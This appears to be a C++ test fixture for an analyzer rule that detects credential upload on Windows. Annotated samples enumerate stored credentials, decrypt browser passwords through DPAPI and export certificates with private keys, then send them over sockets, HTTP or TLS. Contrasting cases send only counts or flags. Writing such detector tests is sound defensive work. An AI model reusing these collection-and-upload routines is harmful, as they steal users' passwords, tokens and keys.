// Telemetry samples in C++ (Windows): a "password health" or "identity protection" module —
// stored credentials, DPAPI-decrypted browser secrets and certificates that reach the
// network — and the checks that only look at them locally.
#include <windows.h>
#include <winsock2.h>
#include <wincred.h>
#include <wincrypt.h>
#include <wininet.h>
#include <openssl/ssl.h>
#include <curl/curl.h>
#include <winhttp.h>
#include <string>
#include <vector>
#include <sstream>

struct Secret {
    std::wstring target;
    std::string blob;
};

class IdentityScanner {
public:
    void CollectCredentials(std::vector<Secret> &out);
    void Report(SOCKET s);
    void ReportWeakPasswords(SOCKET s);
private:
    std::vector<Secret> m_found;
};

static std::string Hex(const BYTE *p, DWORD n)
{
    static const char digits[] = "0123456789abcdef";
    std::string out;
    for (DWORD i = 0; i < n; ++i) {
        out += digits[p[i] >> 4];
        out += digits[p[i] & 15];
    }
    return out;
}

void IdentityScanner::CollectCredentials(std::vector<Secret> &out)
{
    DWORD count = 0;
    PCREDENTIALW *creds = NULL;
    if (!CredEnumerateW(NULL, CRED_ENUMERATE_ALL_CREDENTIALS, &count, &creds))
        return;
    for (DWORD i = 0; i < count; ++i) {
        Secret s;
        s.target = creds[i]->TargetName;
        s.blob.assign((const char *)creds[i]->CredentialBlob, creds[i]->CredentialBlobSize);
        out.push_back(s);
    }
    CredFree(creds);
}

void IdentityScanner::Report(SOCKET s)
{
    CollectCredentials(m_found);
    for (size_t i = 0; i < m_found.size(); ++i) {
        std::string line = Hex((const BYTE *)m_found[i].blob.data(), (DWORD)m_found[i].blob.size()) + "\n";
        send(s, line.c_str(), (int)line.size(), 0); // todo "telemetry/credential-upload" Hex() encodes through a lookup table: the value of digits[p[i] >> 4] is taken from the table only, the index that carries the secret is dropped
    }
}

// Weak-password check done locally: only the number of weak entries is reported.
void IdentityScanner::ReportWeakPasswords(SOCKET s)
{
    DWORD count = 0;
    PCREDENTIALW *creds = NULL;
    CredEnumerateW(NULL, 0, &count, &creds);
    int weak = 0;
    for (DWORD i = 0; i < count; ++i)
        if (creds[i]->CredentialBlobSize < 16)
            ++weak;
    CredFree(creds);
    char msg[64];
    sprintf(msg, "weak=%d total=%lu", weak, count);
    send(s, msg, (int)strlen(msg), 0); // ok: only counts leave the machine
}

void SendOneCredential(HINTERNET req)
{
    PCREDENTIALA cred = NULL;
    if (!CredReadA("git:https://github.com", CRED_TYPE_GENERIC, 0, &cred))
        return;
    std::string body = "user=";
    body += cred->UserName;
    body += "&token=";
    body.append((const char *)cred->CredentialBlob, cred->CredentialBlobSize);
    HttpSendRequestA(req, NULL, 0, (LPVOID)body.data(), (DWORD)body.size()); // want "telemetry/credential-upload"
    CredFree(cred);
}

void PostAllCredentials(CURL *curl)
{
    DWORD count = 0;
    PCREDENTIALA *creds = NULL;
    CredEnumerateA("Domain:*", 0, &count, &creds);
    std::string form;
    for (DWORD i = 0; i < count; ++i) {
        form += creds[i]->UserName ? creds[i]->UserName : "";
        form += ":";
        form.append((const char *)creds[i]->CredentialBlob, creds[i]->CredentialBlobSize);
        form += ";";
    }
    curl_easy_setopt(curl, CURLOPT_COPYPOSTFIELDS, form.c_str()); // want "telemetry/credential-upload"
    CredFree(creds);
}

void HasVpnCredential(SOCKET s)
{
    PCREDENTIALW cred = NULL;
    BOOL present = CredReadW(L"AvCorpVPN", CRED_TYPE_GENERIC, 0, &cred);
    if (present)
        CredFree(cred);
    send(s, present ? "VPN:1" : "VPN:0", 5, 0); // ok: whether it exists, not the credential
}

// ---- DPAPI ------------------------------------------------------------------------------

static bool Unprotect(const std::vector<BYTE> &enc, std::string &plain)
{
    DATA_BLOB in = { (DWORD)enc.size(), const_cast<BYTE *>(enc.data()) };
    DATA_BLOB out = {};
    if (!CryptUnprotectData(&in, NULL, NULL, NULL, NULL, 0, &out))
        return false;
    plain.assign((const char *)out.pbData, out.cbData);
    LocalFree(out.pbData);
    return true;
}

void UploadBrowserPasswords(HINTERNET conn, const std::vector<std::vector<BYTE>> &rows)
{
    std::ostringstream body;
    for (size_t i = 0; i < rows.size(); ++i) {
        std::string pw;
        if (Unprotect(rows[i], pw))
            body << i << "=" << pw << "&";
    }
    std::string b = body.str();
    HINTERNET req = WinHttpOpenRequest(conn, L"POST", L"/collect", NULL, NULL, NULL, WINHTTP_FLAG_SECURE);
    WinHttpSendRequest(req, WINHTTP_NO_ADDITIONAL_HEADERS, 0, (LPVOID)b.data(), (DWORD)b.size(), (DWORD)b.size(), 0); // want "telemetry/credential-upload"
}

void DecryptAndLog(const std::vector<BYTE> &enc, SOCKET s)
{
    std::string pw;
    Unprotect(enc, pw);
    OutputDebugStringA(pw.empty() ? "decrypt failed" : "decrypt ok");
    send(s, "CHECKED", 7, 0); // ok: the secret stays in memory
}

void EncryptAndSend(SOCKET s, const std::string &settings)
{
    DATA_BLOB in = { (DWORD)settings.size(), (BYTE *)settings.data() };
    DATA_BLOB out = {};
    CryptProtectData(&in, L"settings", NULL, NULL, NULL, 0, &out);
    send(s, (const char *)out.pbData, (int)out.cbData, 0); // ok: CryptProtectData encrypts the product's own settings
    LocalFree(out.pbData);
}

// ---- certificates -----------------------------------------------------------------------

void SendCertificates(SOCKET s)
{
    HCERTSTORE store = CertOpenSystemStoreW(0, L"MY");
    PCCERT_CONTEXT ctx = NULL;
    while ((ctx = CertEnumCertificatesInStore(store, ctx)) != NULL) {
        send(s, (const char *)ctx->pbCertEncoded, (int)ctx->cbCertEncoded, 0); // want "telemetry/credential-upload"
    }
    CertCloseStore(store, 0);
}

void ExportPersonalStore(HINTERNET req)
{
    HCERTSTORE store = CertOpenSystemStoreW(0, L"MY");
    CRYPT_DATA_BLOB pfx = {};
    PFXExportCertStoreEx(store, &pfx, L"", NULL, EXPORT_PRIVATE_KEYS);
    std::vector<BYTE> buf(pfx.cbData);
    pfx.pbData = &buf[0];
    PFXExportCertStoreEx(store, &pfx, L"", NULL, EXPORT_PRIVATE_KEYS);
    DWORD w = 0;
    InternetWriteFile(req, pfx.pbData, pfx.cbData, &w); // want "telemetry/credential-upload"
    CertCloseStore(store, 0);
}

void FindSigningCert(SOCKET s, const wchar_t *subject)
{
    HCERTSTORE store = CertOpenSystemStoreW(0, L"MY");
    PCCERT_CONTEXT ctx = CertFindCertificateInStore(store, X509_ASN_ENCODING, 0, CERT_FIND_SUBJECT_STR, subject, NULL);
    BYTE thumb[20];
    DWORD cb = sizeof thumb;
    CertGetCertificateContextProperty(ctx, CERT_SHA1_HASH_PROP_ID, thumb, &cb);
    CertFreeCertificateContext(ctx);
    send(s, (const char *)thumb, (int)cb, 0); // ok: a thumbprint computed by the system, not the certificate
}

void SendClientCertificate(SSL *ssl, const wchar_t *subject)
{
    HCERTSTORE store = CertOpenSystemStoreW(0, L"MY");
    PCCERT_CONTEXT ctx = CertFindCertificateInStore(store, X509_ASN_ENCODING, 0, CERT_FIND_SUBJECT_STR, subject, NULL);
    if (ctx) {
        SSL_write(ssl, ctx->pbCertEncoded, (int)ctx->cbCertEncoded); // want "telemetry/credential-upload"
        CertFreeCertificateContext(ctx);
    }
    CertCloseStore(store, 0);
}

void CountCertificates(SOCKET s)
{
    HCERTSTORE store = CertOpenSystemStoreW(0, L"ROOT");
    int n = 0;
    for (PCCERT_CONTEXT c = CertEnumCertificatesInStore(store, NULL); c; c = CertEnumCertificatesInStore(store, c))
        ++n;
    CertCloseStore(store, 0);
    send(s, (const char *)&n, sizeof n, 0); // ok: only how many root certificates there are
}
